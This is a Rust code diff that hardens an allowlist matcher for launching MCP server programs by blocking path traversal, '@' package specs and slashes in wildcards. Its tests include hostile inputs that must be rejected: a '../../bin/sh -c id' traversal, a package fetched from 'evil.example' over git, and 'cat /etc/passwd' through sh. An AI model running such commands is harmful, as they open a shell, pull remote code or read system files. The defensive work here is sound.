@@ -7,7 +7,6 @@
 use std::collections::BTreeMap;
 
 use super::ServerSpec;
-use crate::tool_name::glob_matches;
 
 /// In whose name a server is configured.
 #[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
@@ -37,7 +36,7 @@ struct ProgramPattern {
 impl ProgramPatterns {
     /// Patterns are separated by `;` or a line break. Each is written as the command line itself:
     /// variables first (`NAME=*`), then the command and its arguments. In the command and the arguments
-    /// `*` stands for any characters, and a last `**` for any further arguments.
+    /// `*` stands for letters, digits, `-`, `_` and `.`, and a last `**` for any further arguments.
     pub fn parse(text: &str) -> Result<Self, String> {
         text.split([';', '\n'])
             .map(str::trim)
@@ -117,10 +116,20 @@ impl ProgramPattern {
         let enough =
             if self.open_ended { args.len() >= self.args.len() } else { args.len() == self.args.len() };
         enough
-            && glob_matches(&self.command, command)
-            && self.args.iter().zip(args).all(|(pattern, arg)| glob_matches(pattern, arg))
+            && word_matches(&self.command, command)
+            && self.args.iter().zip(args).all(|(pattern, arg)| word_matches(pattern, arg))
             && env.keys().all(|name| self.env.contains(name))
     }
+}
+
+/// Matches one word of a command line. A `*` does not match `/`, `@`, blanks or control characters: with
+/// these, an argument would name another program or another package than the operator meant.
+fn word_matches(pattern: &str, word: &str) -> bool {
+    let Some((literal, rest)) = pattern.split_once('*') else { return pattern == word };
+    let Some(tail) = word.strip_prefix(literal) else { return false };
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
+    let plain = tail.find(|c| !is_plain(c)).unwrap_or(tail.len());
+    (0..=plain).any(|at| word_matches(rest, &tail[at..])) && !word.contains("..")
 }
 
 #[cfg(test)]
@@ -153,6 +162,10 @@ mod tests {
         check(patterns, "/opt/tools/search --any \"thing at all\"", true);
         check(patterns, "sh -c \"cat /etc/passwd\"", false);
         check("", "npx", false);
+        check("/opt/mcp/* **", "/opt/mcp/search --fast", true);
+        check("/opt/mcp/* **", "/opt/mcp/../../bin/sh -c id", false);
+        check(patterns, "uvx \"mcp-server-x @ git+https://evil.example/x.git\"", false);
+        check(patterns, "uvx mcp-server-x/../y", false);
     }
 
     #[test]
